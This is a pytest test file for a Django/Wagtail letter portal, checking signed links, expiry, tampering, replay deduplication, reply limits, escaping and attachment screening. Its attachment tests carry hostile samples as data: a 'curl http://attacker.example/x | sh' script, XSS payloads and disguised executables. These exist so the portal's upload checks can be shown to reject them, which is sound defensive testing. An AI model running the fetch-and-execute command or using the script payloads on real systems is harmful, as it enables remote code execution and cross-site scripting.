"""The customer portal: the signed link by email, reading, acknowledging and replying with an
attachment checked by content; tampered, mixed-up and expired links refused; replayed replies
recorded once, and a limit on how many one link can send."""

import copy
import re

import pytest
from django.core import mail, signing
from django.core.files.uploadedfile import SimpleUploadedFile

from wagtail_correspondence.delivery import portal_tokens as tokens
from wagtail_correspondence.models import AttachmentVersion, Correspondence, Dispatch, DispatchStatus, PortalResponse
from wagtail_correspondence.portal.views import MAX_REPLIES_PER_LETTER
from wagtail_correspondence.services import letters as service

from . import factories

pytestmark = pytest.mark.usefixtures("one_customer")
PDF_BYTES = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


@pytest.fixture
def portal_letter(agent, customer_dictionary, standard_layout, django_capture_on_commit_callbacks):
    fragment = factories.fragment(customer_dictionary, key="greeting")
    template = factories.letter_template(customer_dictionary, standard_layout, [fragment],
                                         channels=["print", "portal"])
    with django_capture_on_commit_callbacks(execute=True):
        return service.generate_letter(agent, service.LetterRequest(
            template=template, data=copy.deepcopy(factories.SAMPLE_DATA), channel="portal"))


def link_path(message):
    return re.search(r"http://testserver(/portal/letters/[^/\s]+/)", message.body).group(1)


def test_the_customer_gets_a_link_and_reads_the_letter(client, portal_letter):
    [message] = mail.outbox
    assert message.to == ["ada@example.org"] and portal_letter.reference in message.body
    assert not message.attachments  # the letter itself stays in the portal
    dispatch = Dispatch.objects.get(letter=portal_letter, channel="portal")
    assert dispatch.status == DispatchStatus.SENT

    response = client.get(link_path(message))
    page = response.content.decode()
    assert response.status_code == 200 and portal_letter.reference in page and "Dear Ada," in page
    assert response["Cache-Control"] == "no-store" and response["Referrer-Policy"] == "same-origin"
    dispatch.refresh_from_db()
    assert dispatch.status == DispatchStatus.DELIVERED and dispatch.delivered_at
    pdf = client.get(link_path(message) + "pdf/")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")


def test_acknowledge_once_and_reply_with_a_pdf(client, portal_letter):
    path = link_path(mail.outbox[0])
    client.post(path, {"action": "acknowledge"})
    client.post(path, {"action": "acknowledge"})
    assert portal_letter.portal_responses.filter(kind=PortalResponse.ACKNOWLEDGEMENT).count() == 1
    response = client.post(path, {"action": "reply", "text": "I paid on Monday <b>already</b>.",
                                  "attachment": SimpleUploadedFile("receipt.pdf", PDF_BYTES)})
    assert response.status_code == 302
    reply = portal_letter.portal_responses.get(kind=PortalResponse.REPLY)
    assert reply.text == "I paid on Monday <b>already</b>." and reply.attachment_type == "application/pdf"
    assert reply.attachment_size == len(PDF_BYTES) and reply.attachment_name == "receipt.pdf"
    page = client.get(path).content.decode()
    assert "I paid on Monday &lt;b&gt;already&lt;/b&gt;." in page and "acknowledged receipt" in page


@pytest.mark.parametrize("name, content, message", [
    ("invoice.pdf", b"MZ\x90\x00 a Windows program", "This type of file is not accepted"),
    ("photo.png", b"<svg onload=alert(1)>", "This type of file is not accepted"),
    ("big.pdf", b"%PDF-" + b"0" * (10 * 1024 * 1024), "larger than 10 MB"),
])
def test_attachments_are_checked_by_content(client, portal_letter, name, content, message):
    response = client.post(link_path(mail.outbox[0]), {"action": "reply", "text": "See attached",
                                                       "attachment": SimpleUploadedFile(name, content)})
    assert response.status_code == 400 and message in response.content.decode()
    assert not portal_letter.portal_responses.exists()


def test_a_reply_needs_text(client, portal_letter):
    response = client.post(link_path(mail.outbox[0]), {"action": "reply", "text": ""})
    assert response.status_code == 400 and "This field is required." in response.content.decode()
    assert not portal_letter.portal_responses.exists()


def test_tampered_and_expired_links_are_refused(client, portal_letter, monkeypatch):
    path = link_path(mail.outbox[0])
    token = path.split("/")[-2]
    tampered = path.replace(token, token[:-3] + ("AAA" if not token.endswith("AAA") else "BBB"))
    response = client.get(tampered)
    assert response.status_code == 403 and "This link is not valid" in response.content.decode()
    assert portal_letter.reference not in response.content.decode()
    forged = signing.dumps({"d": 999, "l": str(portal_letter.uuid)}, salt="wagtail_correspondence.portal")
    assert client.get(f"/portal/letters/{forged}/").status_code == 403
    other_salt = signing.dumps({"d": 1, "l": str(portal_letter.uuid)})
    assert client.get(f"/portal/letters/{other_salt}/").status_code == 403

    real_time = signing.time.time
    monkeypatch.setattr(signing.time, "time", lambda: real_time() + 31 * 86400)
    response = client.get(path)
    assert response.status_code == 410 and "This link has expired" in response.content.decode()
    assert client.post(path, {"action": "acknowledge"}).status_code == 410
    assert not portal_letter.portal_responses.exists()


def test_staff_see_the_replies_on_the_letter(client, agent, portal_letter):
    client.post(link_path(mail.outbox[0]), {"action": "reply", "text": "Question about my invoice",
                                            "attachment": SimpleUploadedFile("scan.pdf", PDF_BYTES)})
    client.force_login(agent)
    page = client.get(f"/admin/correspondence/letters/inspect/{portal_letter.pk}/").content.decode()
    assert "Question about my invoice" in page and "scan.pdf" in page
    reply = portal_letter.portal_responses.get()
    download = client.get(f"/admin/correspondence/letters/portal-attachments/{reply.pk}/")
    assert download.status_code == 200 and download.content == PDF_BYTES
    assert download["X-Content-Type-Options"] == "nosniff"


# Hardening: links for another letter, changed links, expiry, replayed and unwanted replies ----


def another_portal_letter(agent, customer_dictionary, standard_layout, django_capture_on_commit_callbacks):
    template = factories.letter_template(customer_dictionary, standard_layout,
                                         [factories.fragment(customer_dictionary, key="other", html="<p>Other</p>")],
                                         title="Other letter", channels=["print", "portal"])
    with django_capture_on_commit_callbacks(execute=True):
        return service.generate_letter(agent, service.LetterRequest(
            template=template, data=copy.deepcopy(factories.SAMPLE_DATA), channel="portal"))


def test_a_link_opens_its_own_letter_and_no_other(client, agent, portal_letter, customer_dictionary,
                                                  standard_layout, django_capture_on_commit_callbacks):
    other = another_portal_letter(agent, customer_dictionary, standard_layout, django_capture_on_commit_callbacks)
    first, second = (link_path(message) for message in mail.outbox)
    page = client.get(first).content.decode()
    assert portal_letter.reference in page and other.reference not in page
    assert other.reference in client.get(second).content.decode()
    # A link naming one letter's delivery and another letter (only the site's key could sign
    # it: here it stands for a mix-up or a leaked signature) opens neither.
    dispatch = Dispatch.objects.get(letter=portal_letter, channel="portal")
    mixed = signing.dumps({"d": dispatch.pk, "l": str(other.uuid)}, salt=tokens.SALT, compress=True)
    for path in (f"/portal/letters/{mixed}/", f"/portal/letters/{mixed}/pdf/"):
        response = client.get(path)
        assert response.status_code == 403
        assert portal_letter.reference not in response.content.decode()
        assert other.reference not in response.content.decode()
    # A delivery on another channel (the letter's print run) is no portal link.
    printed = Dispatch.objects.create(letter=portal_letter, channel="print")
    by_print = signing.dumps({"d": printed.pk, "l": str(portal_letter.uuid)}, salt=tokens.SALT, compress=True)
    assert client.get(f"/portal/letters/{by_print}/").status_code == 403


def test_any_change_to_a_link_is_refused(client, portal_letter):
    path = link_path(mail.outbox[0])
    token = path.split("/")[-2]
    payload, _, signature = token.rpartition(":")
    changed = [
        token[:-1] + ("A" if token[-1] != "A" else "B"),  # the signature
        payload[:3] + ("x" if payload[3] != "x" else "y") + payload[4:] + ":" + signature,  # the letter it names
        payload + ":",  # no signature at all
        signing.dumps({"d": 1, "l": str(portal_letter.uuid)}, salt=tokens.SALT, key="not-the-site-key"),
    ]
    for token_variant in changed:
        for suffix in ("", "pdf/"):
            response = client.get(f"/portal/letters/{token_variant}/{suffix}")
            assert response.status_code == 403, token_variant
            assert not response.content.startswith(b"%PDF")
    assert client.post(f"/portal/letters/{changed[1]}/", {"action": "reply", "text": "Hi"}).status_code == 403
    assert not portal_letter.portal_responses.exists()


def test_links_expire_after_the_configured_days(client, portal_letter, settings, monkeypatch):
    settings.WAGTAIL_CORRESPONDENCE = {**settings.WAGTAIL_CORRESPONDENCE, "PORTAL": {"LINK_MAX_AGE_DAYS": 2}}
    path = link_path(mail.outbox[0])
    real_time = signing.time.time
    monkeypatch.setattr(signing.time, "time", lambda: real_time() + 2 * 86400 - 60)
    assert client.get(path).status_code == 200
    monkeypatch.setattr(signing.time, "time", lambda: real_time() + 2 * 86400 + 60)
    assert client.get(path).status_code == 410 and client.get(path + "pdf/").status_code == 410
    response = client.post(path, {"action": "reply", "text": "Late reply",
                                  "attachment": SimpleUploadedFile("receipt.pdf", PDF_BYTES)})
    assert response.status_code == 410 and not portal_letter.portal_responses.exists()


def test_a_replayed_reply_is_recorded_once(client, portal_letter):
    path = link_path(mail.outbox[0])
    body = {"action": "reply", "text": "I paid on Monday."}
    for _ in range(3):  # a double click, a resent form, a replayed request
        response = client.post(path, {**body, "attachment": SimpleUploadedFile("receipt.pdf", PDF_BYTES)})
        assert response.status_code == 302
    assert portal_letter.portal_responses.filter(kind=PortalResponse.REPLY).count() == 1
    assert Correspondence.objects.filter(portal_response__letter=portal_letter).count() == 1
    # Another reply (other words, or another file) is a new one.
    client.post(path, {**body, "attachment": SimpleUploadedFile("receipt.pdf", PDF_BYTES + b"%")})
    client.post(path, {"action": "reply", "text": "And here is the second page."})
    assert portal_letter.portal_responses.filter(kind=PortalResponse.REPLY).count() == 3


def test_one_link_cannot_flood_the_register(client, portal_letter):
    path = link_path(mail.outbox[0])
    for number in range(MAX_REPLIES_PER_LETTER):
        assert client.post(path, {"action": "reply", "text": f"Reply {number}"}).status_code == 302
    response = client.post(path, {"action": "reply", "text": "One more"})
    assert response.status_code == 429 and "as many replies as it can take" in response.content.decode()
    assert portal_letter.portal_responses.filter(kind=PortalResponse.REPLY).count() == MAX_REPLIES_PER_LETTER
    assert Correspondence.objects.filter(portal_response__letter=portal_letter).count() == MAX_REPLIES_PER_LETTER


@pytest.mark.parametrize("name, content", [
    ("invoice.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56),  # a Linux program
    ("invoice.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"PE\x00\x00"),  # Windows
    ("note.txt", b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"),
    ("letter.html", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
    ("logo.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
])
def test_programs_scripts_and_markup_are_refused_whatever_their_name(client, portal_letter, name, content):
    response = client.post(link_path(mail.outbox[0]), {"action": "reply", "text": "See attached",
                                                       "attachment": SimpleUploadedFile(name, content)})
    assert response.status_code == 400 and "This type of file is not accepted" in response.content.decode()
    assert not portal_letter.portal_responses.exists()


def test_a_pdf_named_like_a_program_is_kept_as_a_pdf(client, agent, portal_letter):
    client.post(link_path(mail.outbox[0]), {"action": "reply", "text": "My receipt",
                                            "attachment": SimpleUploadedFile("receipt.exe", PDF_BYTES,
                                                                             "application/x-msdownload")})
    reply = portal_letter.portal_responses.get()
    assert (reply.attachment_type, reply.attachment_name) == ("application/pdf", "receipt.pdf")
    entry = Correspondence.objects.get(portal_response=reply)
    assert [version.filename for version in AttachmentVersion.objects.filter(attachment__correspondence=entry)] == [
        "receipt.pdf"]


# The notice email and where its link starts ---------------------------------------------------

def portal_template(customer_dictionary, standard_layout):
    fragment = factories.fragment(customer_dictionary, key="greeting")
    return factories.letter_template(customer_dictionary, standard_layout, [fragment], channels=["print", "portal"])


def test_the_notice_is_an_html_and_text_email_with_the_name_escaped(
        agent, customer_dictionary, standard_layout, customers, django_capture_on_commit_callbacks):
    data = copy.deepcopy(factories.SAMPLE_DATA)
    data["customer"]["full_name"] = "Ada <b>Peeters</b> & Co"
    customers(data)
    with django_capture_on_commit_callbacks(execute=True):
        letter = service.generate_letter(agent, service.LetterRequest(
            template=portal_template(customer_dictionary, standard_layout), customer_id="C-1001", channel="portal"))
    [message] = mail.outbox
    [(html, mimetype)] = message.alternatives
    assert mimetype == "text/html"
    parsed = message.message()
    assert parsed.get_content_type() == "multipart/alternative"
    assert [part.get_content_type() for part in parsed.get_payload()] == ["text/plain", "text/html"]
    link = re.search(r"http://testserver/portal/letters/[^/\s]+/", message.body).group(0)
    assert f'href="{link}"' in html and link in html.split("copy this address", 1)[1]
    assert letter.reference in message.body and letter.reference in html
    # Escaped in the HTML part, as written in the text part.
    assert "Dear Ada &lt;b&gt;Peeters&lt;/b&gt; &amp; Co," in html and "<b>Peeters" not in html
    assert "Dear Ada <b>Peeters</b> & Co," in message.body and "&amp;" not in message.body
    assert "<style" not in html  # mail clients drop style sheets: inline styles only
    assert message.subject.startswith("A new letter from")


def test_links_start_with_the_configured_public_address(settings, portal_letter_factory):
    settings.WAGTAIL_CORRESPONDENCE = {**settings.WAGTAIL_CORRESPONDENCE,
                                       "PORTAL": {"BASE_URL": "https://letters.example.org/"}}
    portal_letter_factory(HTTP_HOST="agents.internal:8014")
    [message] = mail.outbox
    assert re.search(r"^https://letters\.example\.org/portal/letters/[^/\s]+/$", message.body, re.M)
    assert "agents.internal" not in message.body and "agents.internal" not in message.alternatives[0][0]


def test_links_lead_back_to_the_host_and_port_of_the_request_that_generated_the_letter(client, portal_letter_factory):
    portal_letter_factory(HTTP_HOST="correspondence.example.net:8014")
    [message] = mail.outbox
    path = re.search(r"^http://correspondence\.example\.net:8014(/portal/letters/[^/\s]+/)$", message.body,
                     re.M).group(1)
    assert f'href="http://correspondence.example.net:8014{path}"' in message.alternatives[0][0]
    assert Dispatch.objects.get(channel="portal").link_origin == "http://correspondence.example.net:8014"
    assert client.get(path).status_code == 200


def test_without_any_public_address_the_notice_fails_with_a_reason(settings, portal_letter):
    # The fixture's letter went out with WAGTAILADMIN_BASE_URL; a second one finds no address.
    settings.WAGTAILADMIN_BASE_URL = ""
    from wagtail_correspondence.delivery.base import PermanentDeliveryError
    from wagtail_correspondence.delivery.portal import portal_link

    dispatch = Dispatch.objects.get(letter=portal_letter, channel="portal")
    with pytest.raises(PermanentDeliveryError, match="PORTAL.*BASE_URL"):
        portal_link(dispatch)


@pytest.fixture
def portal_letter_factory(client, agent, customer_dictionary, standard_layout, django_capture_on_commit_callbacks):
    """Generates a portal letter through the API, in a request to the given host."""
    import json

    from rest_framework.authtoken.models import Token

    template = portal_template(customer_dictionary, standard_layout)
    token = Token.objects.create(user=agent)

    def generate(**headers):
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post("/api/correspondence/v1/letters/", data=json.dumps({
                "template": template.pk, "customer_id": "C-1001", "channel": "portal"}),
                content_type="application/json", HTTP_AUTHORIZATION=f"Token {token.key}", **headers)
        assert response.status_code == 201, response.content
        return response

    return generate


def test_the_portal_speaks_the_letters_language(client, portal_letter):
    """A French letter's portal page, its messages and its notice email are in French; a Dutch
    one in Dutch; a link that leads to no letter follows the browser among the product's
    languages, and a letter in a language the product does not speak falls back to English."""
    from django.utils import translation

    from wagtail_correspondence.conf import get_setting
    from wagtail_correspondence.delivery.portal import notice_message
    from wagtail_correspondence.models import Letter

    path = link_path(mail.outbox[0])
    Letter.objects.filter(pk=portal_letter.pk).update(language="fr")
    response = client.get(path)
    page = response.content.decode()
    assert response["Content-Language"] == "fr" and '<html lang="fr">' in page
    for words in ("Download the PDF", "I have received this letter", "Send my reply"):
        with translation.override("fr"):
            french = translation.gettext(words)
        assert french != words and french in page and words not in page, words
    assert "Télécharger" in page  # a word a French reader expects, not only "a translation exists"
    followed = client.post(path, {"action": "acknowledge"}, follow=True).content.decode()
    with translation.override("fr"):
        assert translation.gettext("Thank you: we have recorded that you received this letter.") in followed
    portal_letter.refresh_from_db()
    dispatch = Dispatch.objects.get(letter=portal_letter, channel="portal")
    email = notice_message(dispatch, "https://portal.example/x/")
    with translation.override("fr"):
        assert email.subject == translation.gettext("A new letter from %(organisation)s") % {
            "organisation": get_setting("ORGANISATION_NAME")} and email.subject.startswith("Une")

    Letter.objects.filter(pk=portal_letter.pk).update(language="nl-be")
    response = client.get(path)
    assert response["Content-Language"] == "nl" and "Download the PDF" not in response.content.decode()
    Letter.objects.filter(pk=portal_letter.pk).update(language="de")
    assert client.get(path)["Content-Language"] == "en"

    bad = path.replace(path.split("/")[-2], "not-a-token")
    refused = client.get(bad, HTTP_ACCEPT_LANGUAGE="de-DE,nl;q=0.8,en;q=0.5")
    assert refused.status_code == 403 and refused["Content-Language"] == "nl"
    assert "This link is not valid" not in refused.content.decode()
    assert client.get(bad, HTTP_ACCEPT_LANGUAGE="ja")["Content-Language"] == "en"
